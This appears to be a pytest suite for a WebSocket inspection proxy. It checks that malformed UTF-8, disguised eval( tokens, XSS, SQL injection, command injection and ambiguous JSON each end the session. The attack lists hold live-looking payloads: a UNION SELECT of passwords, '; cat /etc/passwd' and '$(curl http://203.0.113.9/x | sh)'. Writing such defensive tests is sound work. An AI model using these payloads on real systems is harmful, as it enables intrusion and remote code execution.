"""The attack matrix, text and JSON: what a decoder would see is what is judged."""

import json

import pytest

from support.inspector import agent_block
from support.oracle import BOTH_DIRECTIONS, DELIVERIES, TOKEN, Attack, assert_blocked, send_attack
from support.peers import open_pair
from support.wire import BINARY, TEXT

SCHEMA = {
    "type": "object",
    "properties": {"n": {"type": "number", "minimum": -100, "maximum": 100}, "s": {"type": "string"}},
}


def content_policy():
    return agent_block(
        """
    content-filter {
        block-patterns "/eval\\\\(/"
        rules "xss" "sqli" "command-injection"
        max-message-size "1MiB"
    }
    """
    )


def json_policy(schema_path):
    return agent_block(
        f"""
    limits {{ max-json-depth 64 }}
    validation {{ schema-type "json"; schema-path "{schema_path}" }}
    content-filter {{ max-message-size "1MiB" }}
    """
    )


def escaped(text: str) -> str:
    """Every character as a JSON escape."""
    return "".join(f"\\u{ord(char):04x}" for char in text)


def not_utf8(name, octets):
    return Attack(name, lambda f: f.text(octets), (1007,), ("protocol/",))


def content(name, text, opcode=TEXT):
    octets = text if isinstance(text, bytes) else text.encode()
    return Attack(name, lambda f: f.frame(opcode, octets), (1008,), ("content-filter-1/",))


def bad_json(name, text):
    return Attack(name, lambda f: f.text(text), (1007,), ("validation-1",))


UTF8_ATTACKS = [
    not_utf8("lone-continuation-byte", b"\x80"),
    not_utf8("ff-beside-the-token", b"\xff " + TOKEN),
    not_utf8("the-token-beside-ff", TOKEN + b" \xff"),
    not_utf8("overlong-slash-of-2", b"\xc0\xaf"),
    not_utf8("overlong-slash-of-3", b"\xe0\x80\xaf"),
    not_utf8("overlong-slash-of-4", b"\xf0\x80\x80\xaf"),
    not_utf8("overlong-nul", b"\xc0\x80"),
    not_utf8("high-surrogate", b"\xed\xa0\x80"),
    not_utf8("surrogate-pair", b"\xed\xa0\xbd\xed\xb8\x80"),
    not_utf8("beyond-unicode", b"\xf4\x90\x80\x80"),
    not_utf8("five-byte-form", b"\xf8\x88\x80\x80\x80"),
    not_utf8("cut-at-the-end", "é".encode()[:1]),
    not_utf8("invalid-in-the-last-fragment", b"a" * 3000 + b"\xfe"),
]

CONTENT_ATTACKS = [
    content("plain", "x eval(1)"),
    content("in-binary", b"\x00\xff\xfe eval(1)", BINARY),
    content("after-a-nul", b"x\x00eval("),
    content("after-a-nul-in-binary", b"\x00eval(", BINARY),
    content("in-a-value", '{"v":"eval(1)"}'),
    content("in-a-key", '{"eval(1)":0}'),
    content("escaped-in-a-value", f'{{"v":"{escaped("eval(")}"}}'),
    content("escaped-in-a-key", f'{{"{escaped("eval(")}":0}}'),
    content("one-letter-escaped", '{"v":"e\\u0076al("}'),
    content("escaped-in-capitals", '{"v":"\\u0065\\u0076\\u0061\\u006C\\u0028"}'),
    content("escaped-after-an-escaped-nul", '{"v":"\\u0000\\u0065val("}'),
    content("escaped-deep", '{"a":[[{"b":["x",{"c":"\\u0065val("}]}]]}'),
    content("escaped-in-an-array", '["\\u0065val("]'),
    content("escaped-in-a-bare-string", '"\\u0065val("'),
    content("escaped-beside-a-duplicate", '{"v":"\\u0065val(","v":"harmless"}'),
    content("escaped-in-binary", b'{"v":"\\u0065val("}', BINARY),
    content("script", "<script>alert(1)</script>"),
    content("script-escaped", '{"v":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'),
    content("slash-escaped", '{"v":"<script>alert(1)<\\/script>"}'),
    content("sqli", "' OR 1=1 --"),
    content("sqli-union", "1 UNION SELECT username, password FROM users--"),
    content("command", "; cat /etc/passwd"),
    content("command-substitution", "$(curl http://203.0.113.9/x | sh)"),
]

JSON_ATTACKS = [
    bad_json("not-json", "hello"),
    bad_json("empty", ""),
    bad_json("duplicate-key", '{"n":1,"n":2}'),
    bad_json("duplicate-key-nested", '{"a":{"s":"x","s":"y"}}'),
    bad_json("duplicate-key-escaped", '{"s":"x","\\u0073":"y"}'),
    bad_json("two-documents", '{"n":1}{"n":2}'),
    bad_json("two-documents-in-two-lines", '{"n":1}\n{"n":2}'),
    bad_json("garbage-after-the-document", '{"n":1} x'),
    bad_json("a-nul-after-the-document", '{"n":1}\x00'),
    bad_json("byte-order-mark", "\ufeff" + '{"n":1}'),
    bad_json("cut", '{"n":1'),
    bad_json("trailing-comma", '{"n":1,}'),
    bad_json("comment", '{"n":1 /* x */}'),
    bad_json("single-quotes", "{'n':1}"),
    bad_json("nan", '{"n":NaN}'),
    bad_json("a-leading-zero", '{"n":01}'),
    bad_json("a-raw-newline-in-a-string", '{"s":"a\nb"}'),
    bad_json("a-lone-surrogate-escape", '{"s":"\\ud800"}'),
    bad_json("a-number-beyond-f64", '{"n":1e400}'),
    bad_json("a-negative-number-beyond-f64", '{"n":-1e400}'),
    bad_json("an-integer-beyond-u64", '{"n":123456789012345678901234567890}'),
    bad_json("against-the-schema", '{"n":101}'),
    bad_json("the-second-duplicate-against-the-schema", '{"n":1,"n":101}'),
    *[
        Attack(
            f"depth-of-{what}",
            lambda f, text=text: f.text(text),
            (1007, 1008, 1009),
            ("validation-1", "limits/", "could-not-inspect/"),
        )
        for what, text in (
            ("65-arrays", '{"a":' + "[" * 64 + "]" * 64 + "}"),
            ("100000-arrays", "[" * 100_000 + "]" * 100_000),
            ("100000-arrays-never-closed", "[" * 100_000),
            ("100000-objects", '{"a":' * 100_000 + "1" + "}" * 100_000),
        )
    ],
]


@pytest.fixture(scope="module")
def content_inspector(start_once, shared_backend):
    return start_once(shared_backend.port, content_policy())


@pytest.fixture(scope="module")
def json_inspector(start_once, shared_backend, tmp_path_factory):
    schema = tmp_path_factory.mktemp("schema") / "schema.json"
    schema.write_text(json.dumps(SCHEMA))
    return start_once(shared_backend.port, json_policy(schema))


def attempt(inspector, backend, attack, direction, delivery):
    pair = open_pair(inspector, backend)
    send_attack(pair, attack, direction, delivery)
    assert_blocked(inspector, pair, attack, direction)
    pair.close()


in_both_directions = pytest.mark.parametrize("direction", BOTH_DIRECTIONS)
in_every_delivery = pytest.mark.parametrize("delivery", DELIVERIES)


@in_every_delivery
@in_both_directions
@pytest.mark.parametrize("attack", UTF8_ATTACKS, ids=str)
def test_text_that_is_not_utf8_ends_the_session(content_inspector, shared_backend, attack, direction, delivery):
    attempt(content_inspector, shared_backend, attack, direction, delivery)


@in_every_delivery
@in_both_directions
@pytest.mark.parametrize("attack", CONTENT_ATTACKS, ids=str)
def test_a_token_is_found_wherever_it_hides(content_inspector, shared_backend, attack, direction, delivery):
    attempt(content_inspector, shared_backend, attack, direction, delivery)


@in_every_delivery
@in_both_directions
@pytest.mark.parametrize("attack", JSON_ATTACKS, ids=str)
def test_json_that_two_parsers_read_differently_ends_the_session(
    json_inspector, shared_backend, attack, direction, delivery
):
    attempt(json_inspector, shared_backend, attack, direction, delivery)


@in_both_directions
@pytest.mark.parametrize("size", [0, 1, 2, 3, 4])
def test_binary_needs_no_utf8(content_inspector, shared_backend, direction, size):
    pair = open_pair(content_inspector, shared_backend)
    sender, receiver = pair.ends(direction)
    sender.queue(sender.framer.binary(b"\xff\xc0\xed\xa0"[:size]))
    pair.exchange(until=lambda: receiver.heard.messages or receiver.heard.ended)
    assert receiver.heard.messages == [(BINARY, b"\xff\xc0\xed\xa0"[:size])]
    pair.close()


@in_both_directions
def test_json_at_the_depth_limit_passes(json_inspector, shared_backend, direction):
    pair = open_pair(json_inspector, shared_backend)
    sender, receiver = pair.ends(direction)
    deep = ('{"a":' + "[" * 63 + "]" * 63 + "}").encode()
    sender.queue(sender.framer.text(deep))
    pair.exchange(until=lambda: receiver.heard.messages or receiver.heard.ended)
    assert receiver.heard.messages == [(TEXT, deep)]
    pair.close()
